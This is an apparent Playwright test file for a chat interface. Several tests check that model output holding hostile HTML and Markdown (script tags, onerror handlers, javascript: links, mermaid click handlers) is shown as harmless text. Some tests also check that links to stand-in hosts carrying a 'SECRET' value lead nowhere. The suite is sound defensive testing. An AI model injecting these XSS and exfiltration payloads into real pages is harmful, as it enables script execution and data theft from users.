"""Texts of models on the page: hostile ones, long ones, and every element of Markdown."""

import re

import pytest
from playwright.sync_api import Page, expect

from tests.e2e.conftest import MARKDOWN, OpenBrowser, answer, ask, expect_complete, field

pytestmark = [pytest.mark.browser, pytest.mark.product]

HOSTILE = """<script>window.hacked = 1</script><img src="https://evil.example/a.png" onerror="window.hacked = 1">

![remote](https://evil.example/pixel.png?secret=1) ![data](data:image/svg+xml,<svg onload="window.hacked=1"/>)

[click](javascript:window.hacked=1) [odd](JaVaScRiPt&colon;window.hacked=1) <a href="javascript:window.hacked=1">x</a>

[fine](https://example.org/) <iframe src="https://evil.example/"></iframe> <style>body{display:none}</style>

$\\href{javascript:window.hacked=1}{x}$ and `<svg onload=window.hacked=1>`

[1](https://evil.example "t\\" onmouseover=\\"window.hacked=1")

"""
NESTED = "[" * 5_000 + "\n\n" + "> " * 3_000 + "deep\n\n" + "".join("  " * depth + "- deeper\n" for depth in range(400))


def test_what_is_hostile_is_text_and_asks_for_nothing(visit: OpenBrowser) -> None:
    """All pages of these tests are watched for requests to other hosts and for breaches of the content policy."""
    page = visit().sign_in()
    ask(page, "Attack", text=HOSTILE, interval=0.001)
    expect_complete(page)
    for _ in ("streamed", "loaded"):
        prose = answer(page).locator(".prose")
        assert prose.locator("img, script, iframe, style, svg, [onerror], [onload], [onmouseover]").count() == 0
        links = prose.locator("a").evaluate_all("all => all.map(each => [each.href, each.target, each.rel])")
        assert links
        for href, target, rel in links:
            assert re.match(r"https://(evil\.example|example\.org)/", href), href
            assert target == "_blank" and "noopener" in rel and "noreferrer" in rel
        expect(prose).to_contain_text("Image: remote — evil.example")
        assert page.evaluate("window.hacked") is None
        page.reload()


def test_huge_nesting_is_shown_and_the_page_still_works(page: Page) -> None:
    ask(page, "Nest", text=NESTED, interval=0)
    expect_complete(page)
    expect(answer(page).locator(".prose")).to_contain_text("[[[[")
    ask(page, "Still there?", text="Yes.")
    expect(answer(page, 1)).to_contain_text("Yes.")


FLOW = """```mermaid
flowchart LR
  accTitle: Two steps
  A[Ask] --> B[<img src=x onerror="parent.hacked=1">Answer]
  click B "javascript:parent.hacked=1"
```
"""


def test_diagrams_are_drawn_in_a_frame_that_can_do_nothing_else(visit: OpenBrowser) -> None:
    opened = visit(permissions=["clipboard-read", "clipboard-write"])
    opened.expected.append("Content Security Policy")  # which the frame is tried against
    page = opened.sign_in()
    broken = "```mermaid\nflowchart LR\n  A --> [what\n```"
    ask(page, "Draw", text=f"{FLOW}\n\n{'And so on. ' * 1_000}", interval=0.05)
    shown = page.frame_locator("iframe[title='Diagram: Two steps']").locator("svg")
    expect(shown).to_contain_text("Ask")  # while the answer goes on
    expect(answer(page)).to_have_attribute("data-status", "pending")
    page.get_by_role("button", name="Stop the answer").click()
    expect(answer(page)).to_have_attribute("data-status", "stopped")
    expect(shown).to_be_visible()
    ask(page, "Draw this", text=f"{FLOW}\n\n{broken}")
    expect_complete(page)
    expect(answer(page).get_by_text("This is no diagram that can be drawn: Parse error")).to_be_visible()
    expect(answer(page).get_by_text("A --> [what")).to_be_visible()
    frame = answer(page).locator("iframe")
    expect(frame).to_have_attribute("sandbox", "allow-scripts")
    expect(frame.content_frame.locator("svg")).to_contain_text("Answer")
    inside = page.frames[-1]
    assert inside.evaluate("origin") == "null"
    assert inside.evaluate("fetch('/').then(() => 'asked', () => 'refused')") == "refused"
    assert page.evaluate("window.hacked") is None
    answer(page).get_by_role("button", name="Show the source").press("Enter")
    expect(frame).to_be_hidden()
    expect(answer(page).get_by_text("accTitle: Two steps")).to_be_visible()
    answer(page).get_by_role("button", name="Show the diagram").click()
    expect(frame).to_be_visible()
    answer(page).get_by_role("button", name="Copy", exact=True).first.click()
    expect(answer(page).get_by_role("button", name="Copied")).to_be_visible()
    assert page.evaluate("navigator.clipboard.readText()").startswith("flowchart LR")


LEAD = "https://leads-away.example/?d=SECRET"
LINKED = {
    "flowchart": f'flowchart LR\n  A[Shown] --> B["<a href=\'{LEAD}\'>label</a>"]\n  click A "{LEAD}" "Tip" _blank',
    "flowchart href": f'flowchart LR\n  A[Shown]\n  click A href "{LEAD}" _self',
    "class link": f'classDiagram\n  class Shown\n  link Shown "{LEAD}" "Tip"',
    "class click": f'classDiagram\n  class Shown\n  click Shown href "{LEAD}" "Tip"',
    "sequence": f"sequenceDiagram\n  participant A as Shown\n  link A: Wiki @ {LEAD}\n"
    f'  links A: {{"More": "{LEAD}"}}\n  A->>A: Go',
    "gantt": f'gantt\n  dateFormat YYYY-MM-DD\n  section Part\n  Shown: a1, 2026-01-01, 3d\n  click a1 href "{LEAD}"',
    "state": f'stateDiagram-v2\n  Shown --> Other\n  click Shown "{LEAD}" "Tip"',
    "c4": f'C4Context\n  Person(a, "Shown", "Text", $link="{LEAD}")\n  UpdateElementStyle(a, $bgColor="red")',
    "mindmap": f"mindmap\n  root((Shown))\n    [\"<a href='{LEAD}'>x</a>\"]",
    "journey": "journey\n  title Shown\n  section One\n    Go: 5: <a href='https://leads-away.example'>Me</a>",
    "markdown": f'flowchart LR\n  A["`Shown [x]({LEAD})`"]',
}
REACHING_OUT = """() => [...document.querySelectorAll("*")].flatMap(each => [
  ...(["a", "area", "image", "img", "form", "iframe"].includes(each.localName) ? [each.outerHTML] : []),
  ...[...each.attributes].filter(({ name, value }) => /(^|:)href$|^(src|action)$/.test(name) && !value.startsWith("#")
    && each.localName !== "script").map(({ name, value }) => `${name}=${value}`),
])"""


def test_no_kind_of_diagram_leads_anywhere(visit: OpenBrowser) -> None:
    """A click on a link in the frame would look up its host, even if the policy refuses the request."""
    opened = visit()
    opened.expected.append("Content Security Policy")  # which refuses the picture of a node
    page = opened.sign_in()
    ask(page, "Draw", text="\n\n".join(f"```mermaid\n{source}\n```" for source in LINKED.values()))
    expect_complete(page)
    codes = answer(page).locator(".code")
    expect(codes).to_have_count(len(LINKED))
    for place, kind in enumerate(LINKED):
        codes.nth(place).scroll_into_view_if_needed()
        drawing = codes.nth(place).locator("iframe").content_frame.locator("#diagram > svg")
        expect(drawing, kind).to_contain_text("Shown")
        left = drawing.evaluate(REACHING_OUT)
        assert left == [], kind
    node = codes.first.locator("iframe").content_frame.get_by_text("Shown")
    node.click()
    expect(node).to_be_visible()
    assert len(page.context.pages) == 1


def test_a_question_is_text_whatever_it_holds(page: Page) -> None:
    ask(page, f"{HOSTILE}\n", text="Well.")
    expect_complete(page)
    question = page.locator("article.question .said")
    expect(question).to_contain_text("<script>window.hacked = 1</script>")
    assert question.locator("a, img, script").count() == 0
    assert page.evaluate("window.hacked") is None


def test_a_long_answer_streams_whole_and_the_page_stays_at_its_end(page: Page) -> None:
    text = "".join(f"## Part {number}\n\n{'word ' * 60}\n\n" for number in range(160))
    assert len(text) > 50_000
    ask(page, "Long", text=text, interval=0.0005)
    scroller = page.locator("#transcript")
    expect(answer(page).get_by_role("heading", name="Part 40", exact=True)).to_be_attached()
    assert scroller.evaluate("each => each.scrollTop") == 0  # its newest end
    expect_complete(page)
    expect(answer(page).locator(".block")).to_have_count(320)
    assert scroller.evaluate("each => each.scrollTop") == 0
    blocks = answer(page).locator(".block").evaluate_all("all => all.map(each => each.innerHTML)")
    page.reload()
    assert answer(page).locator(".block").evaluate_all("all => all.map(each => each.innerHTML)") == blocks


def test_who_has_scrolled_up_stays_there(page: Page) -> None:
    ask(page, "Long", text="".join(f"Paragraph {number}.\n\n" for number in range(400)), interval=0.005)
    expect(answer(page)).to_contain_text("Paragraph 60.")
    scroller = page.locator("#transcript")
    scroller.evaluate("each => { each.scrollTop = -600 }")
    expect(page.get_by_role("button", name="Newest")).to_be_visible()
    paragraph = answer(page).get_by_text("Paragraph 40.", exact=True)
    before = paragraph.evaluate("each => each.getBoundingClientRect().top")
    expect(answer(page)).to_contain_text("Paragraph 200.")
    assert abs(paragraph.evaluate("each => each.getBoundingClientRect().top") - before) < 2
    page.get_by_role("button", name="Newest").click()
    assert scroller.evaluate("each => each.scrollTop") == 0
    page.get_by_role("button", name="Stop the answer").click()
    expect(answer(page)).to_have_attribute("data-status", "stopped")


def test_everything_that_markdown_can_hold_is_shown_on_a_phone(visit: OpenBrowser) -> None:
    page = visit(viewport={"width": 390, "height": 844}, is_mobile=True, has_touch=True, color_scheme="dark").sign_in()
    wide = "| " + " | ".join(f"a rather long column {number}" for number in range(12)) + " |\n"
    table = wide + "|" + "---|" * 12 + "\n" + wide
    ask(
        page,
        "All",
        text=f"{MARKDOWN}\n{table}\nIt is $E = mc^2$.\n\n$$\\frac{{1}}{{2}}$$\n\n- [x] done\n- [ ] open\n",
    )
    expect_complete(page)
    expect(answer(page).locator("math")).to_have_count(2)
    # Where the reader has no face for them, one comes along.
    assert page.evaluate("document.fonts.load('16px Formulas').then(([face]) => face.status)") == "loaded"
    assert answer(page).locator("mfrac").bounding_box()
    boxes = answer(page).get_by_role("checkbox")
    expect(boxes.nth(0)).to_be_checked()
    expect(boxes.nth(1)).not_to_be_checked()
    expect(answer(page).locator(".code .lang")).to_have_text("python")
    last = answer(page).locator(".table").last
    assert last.evaluate("each => each.scrollWidth > each.clientWidth")  # it scrolls, and the page does not
    assert page.locator("#transcript").evaluate("each => each.scrollWidth <= each.clientWidth")
    expect(field(page)).to_be_visible()
